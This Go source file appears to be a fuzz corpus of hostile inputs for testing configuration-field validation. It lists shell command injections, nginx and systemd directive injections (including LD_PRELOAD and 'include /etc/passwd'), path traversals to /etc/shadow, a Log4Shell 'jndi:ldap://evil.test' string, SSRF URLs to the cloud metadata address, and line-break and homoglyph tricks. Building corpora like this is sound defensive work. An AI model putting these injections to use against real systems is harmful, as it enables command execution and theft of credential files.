package hostile

import (
	"fmt"
	"strings"
)

// Text is something that nobody means well with.
type Text struct {
	Class string // what it tries
	Text  string
}

// Corpus are the texts, the same ones in the same order each time. A field gets each of them alone and around its own good
// value: what is refused alone may pass behind something good.
func Corpus() []Text {
	var all []Text
	for _, c := range classes {
		for _, t := range c.texts() {
			all = append(all, Text{c.name, t})
		}
	}
	return all
}

// classes are the kinds of enemies.
var classes = []struct {
	name  string
	texts func() []string
}{
	{"nginx", nginxTexts},
	{"shell", shellTexts},
	{"YAML", yamlTexts},
	{"systemd", systemdTexts},
	{"control characters", func() []string { return around(runes(0x00, 0x20, 0x7f, 0x80), "a%sb") }},
	{"C1", func() []string { return around(runes(0x80, 0xa0), "a%sb") }},
	{"ends of line", func() []string {
		return around([]string{"\n", "\r", "\r\n", "\v", "\f", "\u0085", "\u2028", "\u2029", "\\n", "%0a", "%0d%0a"}, "%s", "a%s", "%sb", "a%sb", "a%s evil: true", "a%sHost: evil.test")
	}},
	{"bidi and invisible", func() []string {
		return around(append(runes(0x200b, 0x2010), runes(0x2028, 0x2030, 0x2060, 0x2065, 0x2066, 0x206a, 0xfeff, 0xff00, 0xe0020, 0xe0030)...), "a%sb")
	}},
	{"homoglyphs and IDNA", idnaTexts},
	{"escapes", func() []string {
		return around([]string{"%00", "%2e%2e%2f", "%2f", "%5c", "%25", "%", "%zz", "%c0%ae", "%u002e", "\\x00", "\\u0000", "&#0;", "&lt;"}, "%s", "/a%s", "%sb", "https://a.test/%s")
	}},
	{"paths", pathsTexts},
	{"URLs", urlsTexts},
	{"format verbs", func() []string {
		return []string{"%s", "%d", "%v", "%n", "%x%x%x%x", "%!s(MISSING)", "%1000000d", "{{.}}", "{{printf \"%s\" .}}", "${jndi:ldap://evil.test/a}", "{0}", "%(a)s", "<%= 1 %>", "#{1}"}
	}},
	{"no UTF-8", func() []string {
		return around([]string{"\xff", "\xfe", "\xc0\xaf", "\xc0\x80", "\xe0\x80\xaf", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xf8\x88\x80\x80\x80", "\xc3", "\xe2\x82", "\x80", "\xbf"}, "%s", "a%sb")
	}},
	{"too long", func() []string {
		return []string{strings.Repeat("a", 64), strings.Repeat("a", 256), strings.Repeat("a", 4097), strings.Repeat("a.", 200) + "test", strings.Repeat("/", 5000), strings.Repeat("漢", 1000), strings.Repeat("9", 400), strings.Repeat("\"", 300), strings.Repeat("{", 300), strings.Repeat("a,", 500), "https://a.test/" + strings.Repeat("b", 9000)}
	}},
	{"numbers", func() []string {
		return []string{"-1", "0", "65536", "99999999999999999999", "1e9", "0x10", "010", "٣٠٠٠", "１２３", "NaN", "Infinity", "1_000", "-0", "+5", " 5", "1.5", "1h1h", "-1h", "9223372036854775807s", "1d-1s", "20MM", "1T", "18446744073709551616", "²", "½"}
	}},
}

// around puts each of the parts into each of the shapes.
func around(parts []string, shapes ...string) []string {
	var all []string
	for _, shape := range shapes {
		for _, p := range parts {
			all = append(all, strings.Replace(shape, "%s", p, 1))
		}
	}
	return all
}

// runes are the characters of these ranges, from the first up to but without the second.
func runes(ranges ...rune) []string {
	var all []string
	for i := 0; i < len(ranges); i += 2 {
		for r := ranges[i]; r < ranges[i+1]; r++ {
			all = append(all, string(r))
		}
	}
	return all
}

func nginxTexts() []string {
	var all []string
	for _, what := range []string{"access_log /etc/cron.d/evil", "include /etc/passwd", "load_module /tmp/evil.so", "return 200 evil", "proxy_pass http://evil.test", "root /", "autoindex on"} {
		all = append(all, around([]string{what}, "; %s;", "a; %s;", "a} %s; {", "a; } %s; location /x {", "\"; %s; \"", "'; %s; '", "\\; %s", "a\n%s;\n", "a #\n%s;", "a{%s;}")...)
	}
	return append(all, ";", "{", "}", "{}", ";;", "$", "$host", "${host}", "$http_evil", "${", "$1", "a$request_uri", "~", "~*", "~ ^/(.*)$", "= /", "^~ /", "@name", "#", "a #b", "\\", "\\\\", "\"", "'", "a b", "a\tb", "\"a\" b", "a\\ b", "_", "default_server", "*", "on", "off", "unix:", "lua_by_lua_block {os.execute('x')}")
}

func shellTexts() []string {
	return append(around([]string{"id", "touch /tmp/evil", "reboot"}, "$(%s)", "`%s`", "; %s", "| %s", "|| %s", "&& %s", "& %s", "a;%s;b", "'; %s; '", "\"; %s; \"", "\n%s\n", "<(%s)", "${IFS}%s", "{%s,}", "> %s"),
		"-rf", "--help", "-", "--", "-oProxyCommand=id", "~root", "~", "*", "?", "[a-z]", "!!", "$IFS", "$HOME", "$((1+1))", "a=b", "<", ">", "<<EOF", "2>&1", "\\$(id)", "() { :;}; id")
}

func yamlTexts() []string {
	return []string{"&a", "*a", "!!python/object:x", "!tag a", "? a", "- a", "a: b", "{a: b}", "[a]", "[", "]", "{", "|", ">", "|-\n  a", "---", "...", "--- a", "%YAML 1.1", "<<: *a", "# a", "a # b", ": ", ":", "@a", "`a", "null", "~", "yes", "Norway: no", "0o17", "0b1", "2026-11-26", ".inf", "\"a", "'a", "a\n---\nb", "a\nkind: Evil", "a\"\nkind: \"Evil", "a\ninstall:\n  executor: nginx", "\t", "\"\\x41\"", "\ufeff", "!!binary YQ==", "!!null x", "=", "&a [*a]"}
}

func systemdTexts() []string {
	return around([]string{"ExecStart=/bin/sh -c id", "User=root", "[Service]", "Environment=LD_PRELOAD=/tmp/evil.so"}, "%s", "a\n%s", "a\r\n%s\n", "a\\\n%s", "a %s")
}

func idnaTexts() []string {
	return []string{"раypal.com", "аpple.com", "gооgle.com", "xn--pypal-4ve.com", "xn--", "xn---", "xn--a", "xn--a-.test", "xn--80ak6aa92e.com", "ⓔⓧⓐⓜⓟⓛⓔ.com", "example。com", "example．com", "exa\u00admple.com", "ﬁle.test", "ß.test", "ſ.test", "ı.test", "K.test", "İ.test", "ｅxample.com", "☃.net", "💩.la", "a\u0301.test", "\u0301a.test", "עברית.test", "aא.test", "١.test", "localhost", "-a.test", "a-.test", "a..test", ".test", "a.test.", "a.test..", "a_b.test", "*.a.test", "*a.test", "a.*.test", "*.*.test", "**", "*", "*.", "*.test", "a.t*st", "127.1", "0x7f.1", "2130706433", "0177.0.0.1", "1.2.3", "1.2.3.4.5", "256.1.1.1", "[::1]", "::1", "::ffff:127.0.0.1", "fe80::1%eth0", "[::1%25lo]", "a.test:80", "a.test/x", "a.test?x", "a@b.test", "http://a.test", "CON", "nul", "_wildcard.a.test", "sslwizard", "conf", "default", "hostnames", "include", "volatile", "server", "off"}
}

func pathsTexts() []string {
	return around([]string{"..", "../..", "../../../../etc/shadow", "/../../etc/cron.d/evil", "....//....//etc", "..\\..\\x", "/etc/passwd", "/dev/zero", "/proc/self/environ", "/etc/sslwizard/../shadow", "//a", "./a", "/a/./b", "/a/", "a/b", "C:\\x", "file:///etc/shadow", "/tmp/evil", "/dev/stdin", "/"}, "%s", "unix:%s", "/run/%s", "a.test%s")
}

func urlsTexts() []string {
	var all []string
	for _, scheme := range []string{"http", "https", "ws", "h2c"} {
		for _, rest := range []string{"user:pass@127.0.0.1:3000", "127.0.0.1:3000@evil.test", "127.0.0.1:3000#@evil.test", "127.0.0.1:3000/../x", "127.0.0.1:3000?x=y", "127.0.0.1:0", "127.0.0.1:99999", "127.0.0.1:", "127.0.0.1:3000:4000", "[::1", "[::1]x", "[::1%25lo]:3000", "", "/", ":80", "a b", "evil.test\\@127.0.0.1", "127.0.0.1:+80", "$host:80", "unix:/run/a", "169.254.169.254", "0:80", "a.test:80;x"} {
			all = append(all, scheme+"://"+rest)
		}
	}
	return append(all, "javascript:alert(1)", "data:,x", "ftp://a.test", "//a.test", "gopher://a.test", "http:a.test", "http:/a.test", "http:///a", "HTTP://A.test", "https://a.test\n.evil.test", "fcgi://a:9000", "unix:relative", "unix:", "unix:/run/a;b", "unix:/run/a:/b", fmt.Sprintf("http://a.test:%d", 1<<40))
}
